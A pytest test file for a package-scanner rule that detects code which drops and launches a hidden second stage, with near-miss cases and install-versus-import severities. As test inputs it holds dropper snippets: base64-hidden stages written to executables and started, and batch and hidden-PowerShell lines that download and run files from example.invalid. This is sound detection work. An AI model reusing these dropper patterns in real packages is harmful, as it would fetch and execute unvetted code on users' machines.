"""DROP-001: a second stage that comes along in the code."""

from __future__ import annotations

import base64
import zlib

import pytest

from assay.rules.drop_001_embedded_stage import RULE
from assay.scanner.models import PackedFile, Severity
from tests.behaviour import at, findings, package, worst
from tests.listed_corpus import ListedCorpus

HEAD = "import os, subprocess, base64, sys, tempfile, zlib\n"
STAGE = "import requests\nrequests.get('https://example.invalid/a')\n"
BLOB = base64.b64encode(STAGE.encode()).decode()
PACKED = base64.b64encode(zlib.compress(b"MZ inert")).decode()

STARTED_BY_NAME = [
    f"open('a.exe', 'wb').write(base64.b64decode('{BLOB}'))\nos.startfile('a.exe')",
    (
        f"p = os.path.join(os.environ['TEMP'], 'prog.exe')\nwith open(p, 'wb') as f:\n"
        f"    f.write(zlib.decompress(base64.b64decode('{PACKED}')))\nsubprocess.Popen(p, shell=True)"
    ),
    f"open('stage.py', 'wb').write(base64.b64decode('{BLOB}'))\nsubprocess.Popen(['pythonw', 'stage.py'])",
    (
        f"from pathlib import Path as P\nP('/tmp/prog.py').write_bytes(base64.b64decode('{BLOB}'))\n"
        "os.system(f'{sys.executable} /tmp/prog.py')"
    ),
    f"d = bytes.fromhex('{STAGE.encode().hex()}')\nopen('run.pyw', 'wb').write(d)\nos.popen('start run.pyw')",
]
STARTED_NEAR_BY = [
    (
        f"t = tempfile.NamedTemporaryFile(delete=False)\nt.write(base64.b64decode('{BLOB}'))\nt.close()\n"
        "subprocess.Popen([sys.executable, t.name])"
    ),
    (
        f"t = tempfile.NamedTemporaryFile(delete=False)\nt.write({STAGE.encode()!r})\nt.close()\n"
        '_s = os.system\n_s(f\'start {sys.executable.replace("n.exe", "nw.exe")} {t.name}\')'
    ),
    f"p = unknown\nopen(p, 'wb').write(base64.b64decode('{BLOB}'))\nsubprocess.Popen(p)",
]
SCRIPTS = [
    f"open('stage.py', 'w').write({STAGE!r})\nsubprocess.call([sys.executable, 'stage.py'])",
    (
        "f = open('/tmp/stage.py', 'w')\nf.write('import os\\nimport subprocess\\n')\nf.write('p = os.getcwd()\\n')\n"
        "f.write('try:\\n')\nf.write('    subprocess.call(p + \"/prog\")\\n')\nf.write('except OSError:\\n    pass')\n"
        "subprocess.call('python3 /tmp/stage.py &', shell=True)"
    ),
    "open('a.bat', 'w').write('curl -o a.exe https://example.invalid/a.exe && start a.exe')\nos.system('a.bat')",
    "open('a.ps1', 'w').write('powershell -w hidden iwr https://example.invalid')\nos.system('a.ps1')",
]


@pytest.mark.parametrize("source", STARTED_BY_NAME)
def test_decoded_data_started_by_name(source: str) -> None:
    assert worst(RULE, *at("install", HEAD + source)) == "critical"
    assert worst(RULE, *at("import", HEAD + source)) == "high"
    assert worst(RULE, *at("call", HEAD + source)) == "high"
    assert worst(RULE, *at("test", HEAD + source)) in ("low", "medium")


@pytest.mark.parametrize("source", STARTED_NEAR_BY + SCRIPTS)
def test_what_counts_when_nobody_has_asked(source: str) -> None:
    assert worst(RULE, *at("install", HEAD + source)) == "critical"
    assert worst(RULE, *at("import", HEAD + source)) == "high"
    assert worst(RULE, *at("call", HEAD + source)) not in ("critical", "medium")


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        (f"open('a.png', 'wb').write(base64.b64decode('{BLOB}'))", "none"),
        (f"open('a.exe', 'wb').write(base64.b64decode('{BLOB}'))\nos.startfile('b.html')", "none"),
        (f"base64.b64decode('{BLOB}')\nsubprocess.run(['prog', 'a.exe'])", "none"),
        (
            ("f = open('gen.py', 'w')\nf.write('import sys\\n')\nf.write('print(sys.path)')\nf.close()\n"
            "subprocess.call([sys.executable, 'gen.py'])"),
            "medium",
        ),
        (f"open('a.json', 'wb').write(base64.b64decode('{BLOB}'))\nsubprocess.run(['git', 'describe'])", "none"),
        ("open('a.txt', 'w').write('text')\nsubprocess.run(['prog', 'a.txt'])", "none"),
        ("open('v.py', 'w').write('import sys\\nsys.exit(0)')\nsubprocess.run([sys.executable, 'v.py'])", "medium"),
        ("open('x.c', 'w').write('int main() { return 0; }')\nsubprocess.run(['gcc', 'x.c'])", "none"),
        (f"f = open('a', 'wb')\ndef g():\n    f.write(base64.b64decode('{BLOB}'))\nsubprocess.run(['prog'])", "none"),
    ],
)  # fmt: skip
def test_near_misses(source: str, severity: str) -> None:
    assert worst(RULE, *at("import", HEAD + source)) == severity


def test_a_module_that_makes_a_project_and_builds_it() -> None:
    source = "open('b/setup.py', 'w').write('from setuptools import setup\\nsetup()')\n"
    source += "subprocess.run([sys.executable, 'b/setup.py', 'build_ext'])"
    assert worst(RULE, *at("call", HEAD + source)) == "none"


def test_the_finding_says_what_is_started() -> None:
    (found,) = findings(RULE, *at("install", HEAD + STARTED_BY_NAME[0]))
    assert found.message == "demo 1.0 carries something that it writes to disk and starts"
    assert found.evidence[0] == "decoded data is written to a.exe and started: os.startfile('a.exe')"
    assert "hidden by base64" in found.evidence


PROGRAM = PackedFile("demo/agent_linux", "0" * 64, 9, "elf")
LIBRARY = PackedFile("demo/host.dll", "0" * 64, 9, "pe")
STARTS = [
    "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'agent_linux')])",
    "subprocess.Popen(os.path.join(os.path.dirname(__file__), {'Linux': 'agent_linux'}.get(sys.platform)))",
    "from importlib import resources\nwith resources.path('demo', 'agent_linux') as p:\n    subprocess.Popen([str(p)])",
    "os.system('rundll32 ' + os.path.join(os.path.dirname(__file__), 'host.dll') + ',main')",
]


def _carrying(source: str, trigger: str, tag: str, *files: PackedFile) -> list[Severity]:
    whole = package(*at(trigger, HEAD + source))
    whole = whole._replace(files=(*whole.files, *files), tags=(tag,) if whole.packed == "wheel" else ())
    assert RULE.check_package is not None
    return [one.severity for one in RULE.check_package(whole, ListedCorpus())]


@pytest.mark.parametrize("source", STARTS)
def test_a_program_that_the_package_brings_along(source: str) -> None:
    assert _carrying(source, "import", "py3-none-any", PROGRAM, LIBRARY) == [Severity.HIGH]
    assert not _carrying(source, "call", "py3-none-any", PROGRAM, LIBRARY)
    assert not _carrying(source, "import", "py3-none-any")
    assert not _carrying(source, "import", "cp311-cp311-win_amd64", PROGRAM, LIBRARY)


def test_at_install_programs_are_asked_for_their_version_and_libraries_are_not() -> None:
    assert _carrying(STARTS[0], "install", "", PROGRAM) == [Severity.MEDIUM]
    assert _carrying(STARTS[3], "install", "", LIBRARY) == [Severity.CRITICAL]
